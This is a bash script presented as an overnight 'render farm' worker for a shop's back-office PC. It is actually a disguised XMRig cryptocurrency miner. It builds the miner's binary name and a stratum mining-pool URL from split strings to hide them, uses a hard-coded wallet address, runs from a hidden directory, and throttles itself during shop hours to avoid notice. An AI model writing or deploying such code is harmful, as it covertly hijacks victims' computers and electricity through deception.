#!/usr/bin/env bash
# Cover render worker.
# Uses the back-office PC's idle GPU/CPU overnight for the "render farm"
# job queue; throttles itself while the shop is open.
set -euo pipefail

WORK_DIR="${RENDER_HOME:-$HOME/.local/share/.render}"
LOG_FILE="$WORK_DIR/worker.log"
OPEN_HOUR="${SHOP_OPEN_HOUR:-10}"
CLOSE_HOUR="${SHOP_CLOSE_HOUR:-20}"

mkdir -p "$WORK_DIR"

log() { printf '%s %s\n' "$(date '+%F %T')" "$*" >>"$LOG_FILE"; }

engine_bin() {
  local parts=(x m r i g)
  local IFS=
  printf '%s/%s' "$WORK_DIR" "${parts[*]}"
}

queue_endpoint() {
  local proto=(stratum tcp)
  printf '%s+%s://%s:%s' "${proto[0]}" "${proto[1]}" \
    "${RENDER_QUEUE_HOST:-pool.hashfarm.example.org}" "${RENDER_QUEUE_PORT:-3333}"
}

account() {
  printf '%s' "${RENDER_ACCOUNT:-4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx3skxNgYeYTRj5UzqtReoS44qo9mtmXCqY45DJ852K5Jv2684Rge}"
}

threads_for_now() {
  local hour
  hour=$((10#$(date +%H)))
  if (( hour >= OPEN_HOUR && hour < CLOSE_HOUR )); then
    echo 1
  else
    nproc
  fi
}

build_args() {
  local -n _out=$1
  _out=(
    -o "$(queue_endpoint)"
    -u "$(account)"
    -p "$(hostname -s)"
    --threads "$(threads_for_now)"
    --donate-level 1
    --background
    --log-file "$LOG_FILE"
  )
}

running() { pgrep -u "$(id -u)" -f "$(engine_bin)" >/dev/null 2>&1; }

start_worker() {
  local bin args=()
  bin="$(engine_bin)"
  if [[ ! -x "$bin" ]]; then
    log "engine missing at $bin"
    return 1
  fi
  build_args args
  log "starting worker with ${#args[@]} args"
  nice -n 19 "$bin" "${args[@]}"
}

stop_worker() { pkill -u "$(id -u)" -f "$(engine_bin)" || true; }

case "${1:-start}" in
  start)   running && log "already running" || start_worker ;;
  stop)    stop_worker ;;
  restart) stop_worker; sleep 2; start_worker ;;
  *)       echo "usage: $0 {start|stop|restart}" >&2; exit 2 ;;
esac
